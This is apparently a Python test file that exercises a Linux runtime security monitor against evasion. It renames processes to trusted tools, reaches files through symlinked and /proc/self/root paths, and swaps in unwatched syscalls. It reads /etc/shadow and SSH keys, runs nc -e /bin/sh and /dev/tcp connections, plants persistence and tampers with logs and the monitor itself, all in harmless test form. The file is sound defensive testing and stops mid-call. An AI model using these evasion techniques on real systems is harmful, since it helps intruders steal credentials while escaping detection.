"""Evasion variants of the detection catalogue, run by test_catalogue.py
under its monitor (the default rules): the same effect as a catalogue
trigger, reached the way an attacker who knows the rules would try.

Class "identity": a program is its executable, not its name. The attacker
picks a process's name for free (exec'ing a symlink of any name, or
prctl(PR_SET_NAME)); none of these may switch a rule off:
- a symlink named like a trusted tool, pointing at another program;
- prctl(PR_SET_NAME, "<trusted name>") from an interpreter;
- a shell under a trusted package manager's or scheduler's name, whose
  children used to be exempt as "run by dpkg" / "run by logrotate".

Every case is harmless in the same way as the catalogue's own: reads of
files we may read, writes refused to nobody or to uniquely named files that
are removed at once, calls that fail.
"""
import os
import shutil

# prctl(PR_SET_NAME) from python, then the payload
RENAME = ("import ctypes\nctypes.CDLL(None).prctl(15, {name!r}.encode(), 0, 0, 0)\n")


def _renamed(name, code):
    return RENAME.format(name=name) + code


def identity(c, t, home, nob):
    """`c` is the test_catalogue module (expect, run, py, MARK, NOBODY ...)."""
    ev = os.path.join(t, "evade")
    os.makedirs(ev)

    def alias(name, target):
        os.symlink(target, os.path.join(ev, name))
        return os.path.join(ev, name)

    # VG-001: a trusted reader's name on another program
    keygen = alias("ssh-keygen", "/usr/bin/cat")
    c.expect("VG-001", "cat named ssh-keygen", c.run([keygen, "/etc/shadow"]),
             fd__name="/etc/shadow", proc__name="ssh-keygen", proc__exepath="/usr/bin/cat")
    c.expect("VG-001", "prctl(PR_SET_NAME, sshd)",
             c.py(_renamed("sshd", "open('/etc/shadow').read()")),
             fd__name="/etc/shadow", proc__name="sshd")
    # VG-001 through a shell named like the package manager: its children
    # are not "run by dpkg"
    dpkg = alias("dpkg", "/bin/bash")
    c.expect("VG-001", "bash named dpkg runs cat",
             c.run([dpkg, "-c", f"cat /etc/shadow /{c.MARK}-dpkg; true"]), marker=f"/{c.MARK}-dpkg",
             fd__name="/etc/shadow", proc__pname="dpkg")
    apt = alias("apt-get", "/bin/bash")
    c.expect("VG-001", "bash named apt-get runs python",
             c.run([apt, "-c", f"{c.PY} -c \"open('/etc/gshadow').read()\" # {c.MARK}-apt"]),
             marker=f"{c.MARK}-apt", fd__name="/etc/gshadow")
    # VG-005: the log rotator's name does not make its children rotators
    log = f"/var/log/vigil-test-{c.MARK}-ev.log"
    lr = alias("logrotate", "/bin/bash")
    c.expect("VG-005", "bash named logrotate truncates",
             c.run([lr, "-c", f"echo x > {log}; : > {log}; rm -f {log}"]), fd__name=log)
    # VG-007: a shell named ldconfig writing below /etc
    etcf = f"/etc/vigil-test-{c.MARK}-ev"
    ldc = alias("ldconfig", "/bin/bash")
    c.expect("VG-007", "bash named ldconfig", c.run([ldc, "-c", f"echo x > {etcf}; rm -f {etcf}"]),
             fd__name=etcf)
    # VG-011: cat under ssh's name
    key = f"{home}/.ssh/id_ed25519"
    ssh = alias("ssh", "/usr/bin/cat")
    c.expect("VG-011", "cat named ssh", c.run([ssh, key]), fd__name=key, proc__name="ssh")
    c.expect("VG-011", "prctl(PR_SET_NAME, ssh-agent)",
             c.py(_renamed("ssh-agent", f"open('{key}').read()")), fd__name=key)
    # VG-012: a shell named useradd (its skeleton copy is trusted, a shell is not)
    ua = alias("useradd", "/bin/bash")
    c.expect("VG-012", "bash named useradd", c.run([ua, "-c", f"echo 'alias x=y' >> {home}/.bashrc"]),
             fd__name=f"{home}/.bashrc")
    # VG-016: an interpreter calling itself systemd-sysctl
    cp = "/proc/sys/kernel/core_pattern"
    c.expect("VG-016", "prctl(PR_SET_NAME, systemd-sysctl)",
             c.py(_renamed("systemd-sysctl", f"import os; os.close(os.open('{cp}', os.O_WRONLY))")),
             fd__name=cp)
    # VG-019: cat under ps's name, and an interpreter calling itself top
    s = c.sleeper()
    try:
        ps = alias("ps", "/usr/bin/cat")
        c.expect("VG-019", "cat named ps", c.run([ps, f"/proc/{s.pid}/environ"]),
                 fd__name=f"/proc/{s.pid}/environ")
        c.expect("VG-019", "prctl(PR_SET_NAME, top)",
                 c.py(_renamed("top", f"open('/proc/{s.pid}/environ','rb').read()")),
                 fd__name=f"/proc/{s.pid}/environ")
    finally:
        s.kill()
        s.wait()
    # VG-022: a shell named update-alternatives, refused as nobody
    upd = alias("update-alternatives", "/bin/bash")
    c.expect("VG-022", "bash named update-alternatives",
             c.run(c.NOBODY + [upd, "-c", f": > /usr/bin/vigil-ev-{c.MARK}"]),
             fd__name=f"/usr/bin/vigil-ev-{c.MARK}")
    # VG-037: an interpreter calling itself node; PCRE2's 64 KiB chunk size from python
    c.expect("VG-037", "prctl(PR_SET_NAME, node)",
             c.py(_renamed("node", "import mmap; m = mmap.mmap(-1, 4096, prot=7); m.close()")))
    c.expect("VG-037", "python mmap of PCRE2's chunk size",
             c.py("import mmap; m = mmap.mmap(-1, 65536, prot=7); m.close()"))
    # VG-039: unshare under runc's name
    runc = alias("runc", "/usr/bin/unshare")
    c.expect("VG-039", "unshare named runc", c.run([runc, "-U", "true"]), proc__name="runc")
    c.expect("VG-039", "prctl(PR_SET_NAME, systemd)",
             c.py(_renamed("systemd", "ctypes.CDLL(None).unshare(0x10000000)")))
    # VG-045: a shell named cron is still a shell, and not cron's child
    cron = alias("cron", "/bin/bash")
    pid = c.run(c.DAEMON + [cron, "--norc", "-i", "-c", f"echo {c.MARK}-cron"])
    c.expect("VG-045", "bash named cron as daemon", pid, user__uid=1)
    # VG-061: an interpreter calling itself tcpdump
    c.expect("VG-061", "prctl(PR_SET_NAME, tcpdump)",
             c.py(_renamed("tcpdump", "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM).close()")))


def identity_network(c, t, port):
    """VG-063/VG-065 under other names (`port`: the catalogue's listener)."""
    os.makedirs(os.path.join(t, "evade-net"))
    sh = os.path.join(t, "evade-net", "updatedb")
    os.symlink("/bin/bash", sh)
    c.run([sh, "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; echo {c.MARK}-renamed >&3"], timeout=30)
    c.expect("VG-065", "bash named updatedb to /dev/tcp", marker=f"{c.MARK}-renamed", fd__rport=port)
    c.expect("VG-063", "prctl(PR_SET_NAME, google_guest_ag)",
             c.run(["unshare", "-n", c.PY, "-c", _renamed(
                 "google_guest_ag",
                 "import socket\ntry: socket.create_connection(('169.254.169.254', 80), timeout=1)\n"
                 "except OSError: pass")]),
             fd__rip="169.254.169.254")


def paths(c, t, home, nob):
    """Class "paths": the file is where the kernel went, not how it was
    spelled. A symlinked directory (`~/e -> /etc`), /proc/self/root, or a
    link source named through either, for calls that are not a successful
    open (whose path the kernel walks itself): unlink, rename, link, and
    opens refused to nobody."""
    ev = os.path.join(t, "evade-paths")
    os.makedirs(ev)
    os.chmod(ev, 0o755)
    e = os.path.join(ev, "e")
    os.symlink("/etc", e)
    os.symlink("/usr/bin", os.path.join(ev, "ub"))
    # VG-007: rm through the symlinked directory; rename into /proc/self/root/etc
    etcf = f"/etc/vigil-test-{c.MARK}-p"
    c.run(["sh", "-c", f"echo x > {etcf}"])
    c.expect("VG-007", "rm through ~/e -> /etc", c.run(["rm", f"{e}/vigil-test-{c.MARK}-p"]),
             fs__path__name=etcf)
    with open(f"{ev}/src-{c.MARK}", "w") as f:
        f.write("x\n")
    c.expect("VG-007", "rename into /proc/self/root/etc",
             c.py(f"import os; os.rename('{ev}/src-{c.MARK}', '/proc/self/root{etcf}2'); os.unlink('{etcf}2')"),
             fs__path__target=f"{etcf}2")
    # VG-004: link source spelled through the symlinked directory (refused to nobody)
    c.expect("VG-004", "ln ~/e/shadow as nobody",
             c.run(c.NOBODY + ["ln", f"{e}/shadow", f"{nob}/hl-{c.MARK}-p"]), evt__arg__oldpath="/etc/shadow")
    # VG-008 / VG-009 / VG-013 / VG-014: refused opens, other spellings
    c.expect("VG-008", "sudoers.d through ~/e",
             c.run(c.NOBODY + ["sh", "-c", f"echo x > {e}/sudoers.d/vigil-{c.MARK}-p"]),
             fd__name=f"/etc/sudoers.d/vigil-{c.MARK}-p")
    c.expect("VG-009", "pam.d through /proc/self/root",
             c.run(c.NOBODY + ["sh", "-c", f": >> /proc/self/root/etc/pam.d/vigil-{c.MARK}-p"]),
             fd__name=f"/etc/pam.d/vigil-{c.MARK}-p")
    c.expect("VG-013", "cron.d through /proc/self/root",
             c.run(c.NOBODY + [c.PY, "-c", f"import os\ntry: open('/proc/self/root/etc/cron.d/vigil-{c.MARK}-p','w')\nexcept OSError: pass"]),
             fd__name=f"/etc/cron.d/vigil-{c.MARK}-p")
    c.expect("VG-014", "ld.so.preload through ~/e",
             c.run(c.NOBODY + ["sh", "-c", f": >> {e}/ld.so.preload"]), fd__name="/etc/ld.so.preload")
    # VG-022: a program dropped through a symlink to /usr/bin
    c.expect("VG-022", "touch ~/ub/x as nobody", c.run(c.NOBODY + ["touch", f"{ev}/ub/vigil-{c.MARK}-p"]),
             fd__name=f"/usr/bin/vigil-{c.MARK}-p")
    # VG-001 / VG-004: /etc/shadow under a second name made earlier (a hard
    # link: same device and inode), read and linked again
    hl = f"{ev}/hl-{c.MARK}"
    c.expect("VG-004", "ln /etc/shadow by root", c.run(["ln", "/etc/shadow", hl]),
             evt__arg__oldpath="/etc/shadow")
    c.expect("VG-001", "cat of a hard link to /etc/shadow", c.run(["cat", hl]), fd__name=hl,
             fd__known_name="/etc/shadow")
    c.expect("VG-001", "python reads the hard link",
             c.py(f"open('{hl}').read()"), fd__known_name="/etc/shadow")
    c.expect("VG-004", "ln of the hard link", c.run(["ln", hl, f"{hl}-2"]), evt__arg__oldpath=hl,
             fd__known_name="/etc/shadow")
    # VG-001: chroot into /etc, then /shadow: the sensor walks past the chroot
    c.expect("VG-001", "chroot(/etc) then open(/shadow)",
             c.py("import os; os.chroot('/etc'); open('/shadow').read(1)"), fd__name="/etc/shadow")


def meaning(c, t, home, nob):
    """Class "arguments by meaning" and "behaviours": the same argument
    written another way, the same effect by another call."""
    ev = os.path.join(t, "evade-meaning")
    os.makedirs(ev)
    os.chmod(ev, 0o755)
    # VG-021: setuid with the file-type bits in front (cp -p passes S_IFREG)
    c.expect("VG-021", "chmod 0104755", c.py(
        f"import os; open('{ev}/s1','w').close(); os.chmod('{ev}/s1', 0o104755)"))
    c.py(f"import os; open('{ev}/s2','w').close(); os.chmod('{ev}/s2', 0o4755)")
    c.expect("VG-021", "cp -p of a setuid file", c.run(["cp", "-p", f"{ev}/s2", f"{ev}/s3"]))
    # VG-041: -e as getopt reads it
    nc = os.path.join(t, "tools", "nc")
    c.expect("VG-041", "nc -e/bin/sh", c.run([nc, "-e/bin/sh", "127.0.0.1", "9"]), proc__name="nc")
    c.expect("VG-041", "nc -ve /bin/sh", c.run([nc, "-ve", "/bin/sh", "127.0.0.1", "9"]), proc__name="nc")
    # VG-063: the metadata address as an IPv4-mapped IPv6 address
    c.expect("VG-063", "::ffff:169.254.169.254", c.attack("netns-connect", "::ffff:169.254.169.254", 80))
    # VG-044: a harmless first LD_PRELOAD= before the real one; one too long to copy
    lib = f"{ev}/libvigil-{c.MARK}.so"
    exe2 = ("import ctypes\nlibc = ctypes.CDLL(None)\n"
            "argv = (ctypes.c_char_p * 2)(b'/bin/true', None)\n"
            "envp = (ctypes.c_char_p * 3)(b'LD_PRELOAD=', {val!r}, None)\n"
            "libc.execve(b'/bin/true', argv, envp)")
    c.expect("VG-044", "second LD_PRELOAD", c.py(exe2.format(val=f"LD_PRELOAD={lib}".encode())),
             fields={"proc.env[LD_PRELOAD]": lib})
    longlib = f"{ev}/" + "l" * 400 + ".so"
    c.expect("VG-044", "LD_PRELOAD too long to copy",
             c.py(exe2.format(val=f"LD_PRELOAD={longlib}".encode())))
    # VG-003: targets that lead to /etc/shadow through ".." or another link
    c.expect("VG-003", "ln -s /usr/../etc/shadow",
             c.run(["ln", "-s", "/usr/../etc/shadow", f"{ev}/lnk1-{c.MARK}"]), fs__path__source="/etc/shadow")
    os.symlink("/etc", f"{ev}/e")
    c.expect("VG-003", "ln -s e/shadow next to e -> /etc",
             c.run(["ln", "-s", "e/shadow", f"{ev}/lnk2-{c.MARK}"]), fs__path__source="/etc/shadow")
    # VG-015: history renamed away
    with open(f"{home}/.bash_history", "w") as f:
        f.write("ls\n")
    c.expect("VG-015", "mv ~/.bash_history", c.run(["mv", f"{home}/.bash_history", f"{home}/bh-{c.MARK}"]),
             fs__path__source=f"{home}/.bash_history")
    # VG-005: system logs of our own directory destroyed without O_TRUNC
    d = f"/var/log/vigil-test-{c.MARK}-d"
    c.run(["sh", "-c", f"mkdir -p {d} && for f in auth.log syslog wtmp; do echo x > {d}/$f; done"])
    c.expect("VG-005", "dd conv=notrunc",
             c.run(["dd", "if=/dev/zero", f"of={d}/auth.log", "bs=1", "count=1", "conv=notrunc"]),
             fd__name=f"{d}/auth.log")
    c.expect("VG-005", "sed -i", c.run(["sed", "-i", "1d", f"{d}/syslog"]))
    c.expect("VG-005", "mv away", c.run(["mv", f"{d}/wtmp", f"{d}/wtmp.{c.MARK}"]),
             fs__path__source=f"{d}/wtmp")
    c.run(["rm", "-rf", d])
    # VG-061: a raw IP socket
    c.expect("VG-061", "python AF_INET SOCK_RAW",
             c.py("import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()"))
    # VG-033: the loader runs a file without its execute bit, and one in memory
    prog = f"{ev}/noexec-{c.MARK}"
    c.run(["cp", "/bin/true", prog])
    os.chmod(prog, 0o644)
    loader = "/lib64/ld-linux-x86-64.so.2"
    c.expect("VG-033", "ld.so /tmp/x (not executable)", c.run([loader, prog]))
    c.expect("VG-033", "ld.so /proc/self/fd/N (memfd)", c.py(
        "import os\nfd = os.memfd_create('vigil', 0)\nos.write(fd, open('/bin/true','rb').read())\n"
        f"os.execv('{loader}', ['ld.so', f'/proc/self/fd/{{fd}}'])"))
    os.chmod(prog, 0o755)
    c._ordinary.append(("ldd of a program in /tmp", c.run(["ldd", prog]), None))
    # VG-012 / VG-013: persistence by completion scripts and systemd user timers
    c.expect("VG-012", "~/.bash_completion", c.run(["sh", "-c", f"echo 'id' >> {home}/.bash_completion"]),
             fd__name=f"{home}/.bash_completion")
    units = f"{home}/.config/systemd/user"
    os.makedirs(units)
    c.expect("VG-013", "systemd user timer",
             c.run(["sh", "-c", f"printf '[Timer]\\nOnCalendar=minutely\\n' > {units}/x-{c.MARK}.timer"]),
             fd__name=f"{units}/x-{c.MARK}.timer")


def dup_variants(c, port):
    """VG-060 without dup2: the lowest free descriptor after a close is 0, 1
    or 2, and dup or fcntl(F_DUPFD) hand it the socket."""
    conn = f"import socket, os, fcntl\ns = socket.create_connection(('127.0.0.1', {port}))\n"
    c.expect("VG-060", "python close(0) + dup", c.py(conn + "os.close(0); os.dup(s.fileno())"),
             fd__type="ipv4")
    c.expect("VG-060", "python close(1) + fcntl(F_DUPFD)",
             c.py(conn + "os.close(1); fcntl.fcntl(s.fileno(), fcntl.F_DUPFD, 0)"), fd__type="ipv4")
    c.expect("VG-060", "python close(2) + fcntl(F_DUPFD_CLOEXEC)",
             c.py(conn + "os.close(2); fcntl.fcntl(s.fileno(), fcntl.F_DUPFD_CLOEXEC, 0)"), fd__type="ipv4")


def self_protection(c, mon):
    """VG-083 by other ways to the monitor: a thread of it, a pidfd, its
    BPF maps, its cgroup's freezer. Every call is harmless: SIGWINCH (the
    monitor ignores it), a PEEKDATA that fails (nothing attached), a map
    update with flags the kernel refuses, cgroup.freeze opened and closed
    without writing."""
    pid = mon.proc.pid
    tids = [int(x) for x in os.listdir(f"/proc/{pid}/task") if int(x) != pid]
    assert tids, "the monitor runs no second thread"
    tid = tids[0]
    c.expect("VG-083", "tkill(SIGWINCH) to a thread of the monitor",
             c.py(f"import ctypes; ctypes.CDLL(None).syscall(200, {tid}, 28)"), evt__arg__sig="SIGWINCH")
    c.expect("VG-083", "pidfd_send_signal(SIGWINCH)",
             c.py(f"import os, signal; signal.pidfd_send_signal(os.pidfd_open({pid}), signal.SIGWINCH)"),
             evt__arg__sig="SIGWINCH")
    c.expect("VG-083", "PTRACE_PEEKDATA on a thread of the monitor",
             c.py(f"import ctypes; ctypes.CDLL(None).ptrace(2, {tid}, 0, 0)"))
    map_id = None
    for fd in os.listdir(f"/proc/{pid}/fdinfo"):
        try:
            with open(f"/proc/{pid}/fdinfo/{fd}") as f:
                for line in f:
                    if line.startswith("map_id:"):
                        map_id = int(line.split()[1])
        except OSError:
            continue
        if map_id:
            break
    assert map_id, "no BPF map held by the monitor"
    c.expect("VG-083", "BPF_MAP_UPDATE_ELEM on a map of the monitor (refused)", c.py(
        "import ctypes, struct\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        f"a = ctypes.create_string_buffer(struct.pack('I', {map_id}), 128)\n"
        "fd = libc.syscall(321, 14, a, 128)\n"
        "u = ctypes.create_string_buffer(struct.pack('IIQQQ', fd, 0, 0, 0, 0xff), 128)\n"
        "libc.syscall(321, 2, u, 128)"), fields={"bpf.map.id": map_id})
    # its output file, opened for appending (nothing written) and re-moded to
    # the mode it has, by another process
    out = mon.out
    c.expect("VG-083", "the monitor's output file opened for writing",
             c.py(f"import os; os.close(os.open('{out}', os.O_WRONLY | os.O_APPEND))"),
             fields={"fd.name": out})
    c.expect("VG-083", "chmod of the monitor's output file",
             c.py(f"import os; os.chmod('{out}', os.stat('{out}').st_mode & 0o7777)"),
             fields={"fd.name": out})
    with open(f"/proc/{pid}/cgroup") as f:
        cg = [line.strip()[3:] for line in f if line.startswith("0::")][0]
    freeze = f"/sys/fs/cgroup{cg if cg != '/' else ''}/cgroup.freeze"
    if os.path.exists(freeze):
        c.expect("VG-083", "cgroup.freeze of the monitor opened for writing",
                 c.py(f"import os; os.close(os.open('{freeze}', os.O_WRONLY))"), fd__name=freeze)


def syscalls(c, t):
    """Class "system calls not watched": the same effect through a call the
    rules did not name."""
    ev = os.path.join(t, "evade-calls")
    os.makedirs(ev)
    # VG-001: /etc/shadow opened by handle (no path walked)
    c.expect("VG-001", "open_by_handle_at(/etc/shadow)", c.py(
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "fh = ctypes.create_string_buffer(8 + 128); ctypes.memmove(fh, (128).to_bytes(4, 'little'), 4)\n"
        "mid = ctypes.c_int()\n"
        "assert libc.name_to_handle_at(-100, b'/etc/shadow', fh, ctypes.byref(mid), 0) == 0\n"
        "m = os.open('/', os.O_RDONLY)\n"
        "fd = libc.open_by_handle_at(m, fh, os.O_RDONLY)\n"
        "assert fd >= 0, ctypes.get_errno()\nos.read(fd, 1)"), fd__known_name="/etc/shadow")
    # (fd.name is whichever name the kernel finds for the inode: after the
    # hard links above, maybe one of them; fd.known_name is /etc/shadow)
    # VG-019: another process's memory read without /proc (fails: nothing at address 0)
    s = c.sleeper()
    try:
        c.expect("VG-019", "process_vm_readv", c.py(
            "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
            f"libc.process_vm_readv({s.pid}, None, 0, None, 0, 0)"))
    finally:
        s.kill()
        s.wait()
    # VG-021: a setuid regular file made by mknod
    c.expect("VG-021", "mknod S_IFREG|04755",
             c.py(f"import os, stat; os.mknod('{ev}/mk-{c.MARK}', stat.S_IFREG | 0o4755)"))
    # VG-005: a hole punched in a log of our own
    log = f"/var/log/vigil-test-{c.MARK}-f.log"
    c.run(["sh", "-c", f"head -c 8192 /dev/zero > {log}"])
    c.expect("VG-005", "fallocate(PUNCH_HOLE)", c.py(
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        f"fd = os.open('{log}', os.O_RDWR)\nlibc.fallocate(fd, 3, ctypes.c_long(0), ctypes.c_long(4096))"),
        fd__name=log)
    c.run(["rm", "-f", log])


def more(c, t, home, nob):
    """A third way for the entries that had two: other names, other
    spellings, other calls."""
    ev = os.path.join(t, "evade-more")
    os.makedirs(ev)
    os.chmod(ev, 0o755)

    def alias(name, target):
        os.symlink(target, os.path.join(ev, name))
        return os.path.join(ev, name)

    def renamed(name, *args):
        return c.run([c.ATTACK] + [str(a) for a in args], env=dict(os.environ, VIGIL_ATTACK_NAME=name))

    # VG-006: shred under another name is still shred
    with open(f"{ev}/secret-{c.MARK}", "w") as f:
        f.write("secret\n" * 10)
    c.expect("VG-006", "shred named cleanup", c.run([alias("cleanup", "/usr/bin/shred"), "-u",
                                                     f"{ev}/secret-{c.MARK}"]), proc__name="cleanup")
    # VG-010: authorized_keys through a symlinked .ssh directory
    sshdir = alias("s", f"{home}/.ssh")
    c.expect("VG-010", "append through ~/s -> ~/.ssh",
             c.run(["sh", "-c", f"echo 'ssh-ed25519 AAAA {c.MARK}-s' >> {sshdir}/authorized_keys"]),
             fd__name=f"{home}/.ssh/authorized_keys")
    # VG-017: release_agent through /proc/self/root
    os.makedirs(f"{ev}/cg")
    c.expect("VG-017", "release_agent through /proc/self/root",
             c.py(f"open('/proc/self/root{ev}/cg/release_agent', 'w').write('/x')"),
             fd__name=f"{ev}/cg/release_agent")
    # VG-018 / VG-034: another process's memory through /proc/self/root; PTRACE_SEIZE
    s = c.sleeper()
    try:
        c.expect("VG-018", "/proc/self/root/proc/PID/mem",
                 c.py(f"import os; os.close(os.open('/proc/self/root/proc/{s.pid}/mem', os.O_RDWR))"),
                 fd__name=f"/proc/{s.pid}/mem")
        c.expect("VG-034", "python PTRACE_SEIZE", c.py(
            f"import ctypes\nlibc = ctypes.CDLL(None)\nlibc.ptrace(0x4206, {s.pid}, 0, 0)\n"
            f"libc.ptrace(17, {s.pid}, 0, 0)"), evt__arg__request="PTRACE_SEIZE")
        # VG-036: a debugger's name on another program
        c.expect("VG-036", "prctl(PR_SET_NAME, gdb) + process_vm_writev", c.py(
            "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.prctl(15, b'gdb', 0, 0, 0)\n"
            f"libc.process_vm_writev({s.pid}, None, 0, None, 0, 0)"))
    finally:
        s.kill()
        s.wait()
    # VG-030: a shell under another name below a server
    os.makedirs(f"{ev}/srv")
    os.symlink(c.PY, f"{ev}/srv/httpd")
    sh = alias("worker", "/bin/bash")
    c.run([f"{ev}/srv/httpd", "-c", f"import subprocess; subprocess.run(['{sh}', '-c', 'echo {c.MARK}-ren'])"])
    c.expect("VG-030", "httpd -> bash named worker", marker=f"echo {c.MARK}-ren", proc__name="worker")
    # VG-035: a parent named gdb that is python
    gdb = alias("gdb", c.PY)
    c.run([gdb, "-c", f"import subprocess; subprocess.run(['{c.PY}', '-c', "
                      f"'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0) # {c.MARK}-tm'])"])
    c.expect("VG-035", "PTRACE_TRACEME below python named gdb", marker=f"{c.MARK}-tm",
             evt__arg__request="PTRACE_TRACEME")
    # VG-040: a module loader calling itself systemd-udevd
    with open(f"{ev}/notamodule-{c.MARK}.ko", "wb") as f:
        f.write(b"\x7fELF not a module")
    c.expect("VG-040", "finit_module named systemd-udevd",
             renamed("systemd-udevd", "modules", f"{ev}/notamodule-{c.MARK}.ko"))
    # VG-042: miner arguments given to another program
    c.expect("VG-042", "python with a stratum URL",
             c.run([c.PY, "-c", "pass", "-o", "stratum+ssl://127.0.0.1:4444", "-u", c.MARK]))
    # VG-046: the executable removed through a symlinked directory
    os.makedirs(f"{ev}/sd")
    sdl = alias("sdl", f"{ev}/sd")
    exe = f"{ev}/sd/selfdel-{c.MARK}"
    shutil.copy(c.ATTACK, exe)
    c.expect("VG-046", "unlink(~/sdl/self) with sdl -> the exe's directory",
             c.run([exe, "unlink-self", f"{sdl}/selfdel-{c.MARK}"]), fs__path__name=exe)
    # VG-062: ssh under another name
    ssh = alias("tunnel", "/usr/bin/ssh")
    c.expect("VG-062", "ssh named tunnel",
             c.run([ssh, "-o", "BatchMode=yes", "-o", "ConnectTimeout=3", "-F", "/dev/null",
                    "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                    "-p", "4433", "127.0.0.1", "true"]), fd__rport=4433)
    # VG-064: python under a daemon's name listening
    srv = alias("httpd2", c.PY)
    c.expect("VG-064", "python named httpd2 listens",
             c.run([srv, "-c", "import socket; s = socket.socket(); s.bind(('0.0.0.0', 0)); s.listen(1)"]))
    # VG-073 / VG-080 / VG-081: the loader calls itself vigil, systemd, falco
    libpam = next((p for p in ("/lib/x86_64-linux-gnu/libpam.so.0", "/usr/lib/libpam.so.0")
                   if os.path.exists(p)), None)
    if libpam:
        c.expect("VG-073", "uprobe on libpam by a process named vigil", renamed("vigil", "uprobe", libpam))
    c.expect("VG-080", "BPF_PROG_LOAD by a process named systemd", renamed("systemd", "bpf-load"))
    shutil.copy("/bin/true", f"{ev}/probe-{c.MARK}")
    c.expect("VG-081", "uprobe by a process named falco", renamed("falco", "uprobe", f"{ev}/probe-{c.MARK}"))
    # VG-082: an interpreter calling itself systemd-sysctl
    ub = "/proc/sys/kernel/unprivileged_bpf_disabled"
    c.expect("VG-082", "prctl(PR_SET_NAME, systemd-sysctl)",
             c.py(_renamed("systemd-sysctl", f"import os; os.close(os.open('{ub}', os.O_WRONLY))")),
             fd__name=ub)
    # VG-073: libpam under another name (a symlink the kernel follows)
    if libpam:
        c.expect("VG-073", "uprobe on a symlink to libpam",
                 c.attack("uprobe", alias("notpam.so", libpam)), fields={"probe.path": os.path.realpath(libpam)})
    # VG-063: TCP Fast Open connects by sendto(MSG_FASTOPEN), without connect()
    c.expect("VG-063", "sendto(MSG_FASTOPEN)", c.run(["unshare", "-n", c.PY, "-c",
             "import socket\ntry: socket.socket().sendto(b'x', socket.MSG_FASTOPEN, ('169.254.169.254', 80))\n"
             "except OSError: pass"]), fd__rip="169.254.169.254")


LIBC = ("import ctypes, os, struct\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "libc.syscall.restype = ctypes.c_long\n")


def kernel_facts(c, t, nob):
    """Effects the kernel knows, reached through calls the rules did not
    name: new namespaces from clone and clone3 (no unshare), host trees
    bind-mounted or cloned with open_tree, a disk given to the new mount
    API, group 0 by setgroups, root from a setuid-root file without any
    setuid call, code both writable and executable through two mappings of
    one file. Harmless: the children exit at once, every mount happens in a
    private mount namespace that dies with its process (or is a detached
    tree closed at once, or fails), the setuid copy is ours."""
    ev = os.path.join(t, "evade-kernel")
    os.makedirs(ev)
    os.chmod(ev, 0o755)
    # VG-039: a child born in a new UTS namespace, by clone and by clone3
    c.expect("VG-039", "clone(CLONE_NEWUTS)", c.py(
        LIBC + "r = libc.syscall(56, 0x04000000 | 17, 0, 0, 0, 0)\n"
        "if r == 0: os._exit(0)\nos.waitpid(r, 0)"),
        fields={"evt.type": "clone", "evt.arg.flags": "CLONE_NEWUTS"})
    c.expect("VG-039", "clone3(CLONE_NEWUTS)", c.py(
        LIBC + "a = ctypes.create_string_buffer(struct.pack('8Q', 0x04000000, 0, 0, 0, 17, 0, 0, 0), 64)\n"
        "r = libc.syscall(435, a, 64)\nif r == 0: os._exit(0)\nos.waitpid(r, 0)"),
        fields={"evt.type": "clone3", "evt.arg.flags": "CLONE_NEWUTS"})
    # VG-039: host trees mounted where a process can reach them
    mnt = f"{ev}/mnt-{c.MARK}"
    os.makedirs(mnt)
    c.run(["unshare", "-m", "--propagation", "private", "mount", "--bind", "/etc", mnt])
    c.expect("VG-039", "mount --bind /etc in a private namespace", marker=mnt,
             fields={"evt.type": "mount", "evt.arg.dev": "/etc", "evt.arg.flags": "MS_BIND"})
    private = LIBC + "assert libc.unshare(0x20000) == 0\nlibc.mount(b'none', b'/', None, 0x4000 | 0x40000, None)\n"
    c.expect("VG-039", "python mount(/root, MS_BIND)", c.py(
        private + f"libc.mount(b'/root', b'{mnt}', None, 0x1000, None)"),
        fields={"evt.type": "mount", "evt.arg.dev": "/root"})
    c.expect("VG-039", "python mount(/tmp/../etc, MS_BIND)", c.py(
        private + f"libc.mount(b'/tmp/../etc', b'{mnt}', None, 0x1000, None)"),
        fields={"evt.type": "mount", "evt.arg.dev": "/tmp/../etc"})
    c.expect("VG-039", "mount of a disk by its device (fails)", c.py(
        private + f"libc.mount(b'/dev/vigil-{c.MARK}', b'{mnt}', b'ext4', 0, None)"),
        fields={"evt.type": "mount", "evt.arg.type": "ext4"})
    c.expect("VG-039", "open_tree(/etc, OPEN_TREE_CLONE)", c.py(
        LIBC + "fd = libc.syscall(428, -100, b'/etc', 1 | 0x8000 | 0o2000000)\n"
        "assert fd >= 0, ctypes.get_errno()\nos.close(fd)"),
        fields={"evt.type": "open_tree", "evt.arg.path": "/etc"})
    c.expect("VG-039", "fsconfig(source=/dev/...)", c.py(
        LIBC + "fd = libc.syscall(430, b'ext4', 1)\nassert fd >= 0, ctypes.get_errno()\n"
        f"libc.syscall(431, fd, 1, b'source', b'/dev/vigil-{c.MARK}', 0)\nos.close(fd)"),
        fields={"evt.type": "fsconfig", "evt.arg.value": f"/dev/vigil-{c.MARK}"})
    # VG-039: sources spelled through a symlink, resolved as the kernel does
    # (absolute, relative to the cwd, a device behind a link; open_tree too)
    os.symlink("/etc", f"{ev}/cfg")
    os.symlink("/dev/null", f"{ev}/disk")
    c.expect("VG-039", "python mount(~/cfg -> /etc, MS_BIND)", c.py(
        private + f"libc.mount(b'{ev}/cfg', b'{mnt}', None, 0x1000, None)"),
        fields={"evt.type": "mount", "evt.arg.dev": f"{ev}/cfg", "vigil.mount.source": "/etc"})
    # relative: resolved against /proc/PID/cwd while the process lives (a
    # process that mounts something uses it; this one lingers a second)
    c.expect("VG-039", "python mount(cfg relative to the cwd, MS_BIND)", c.py(
        private + f"os.chdir('{ev}')\nlibc.mount(b'cfg', b'{mnt}', None, 0x1000, None)\n"
        "import time; time.sleep(1)"),
        fields={"evt.type": "mount", "evt.arg.dev": "cfg", "vigil.mount.source": "/etc"})
    c.expect("VG-039", "open_tree(~/cfg -> /etc)", c.py(
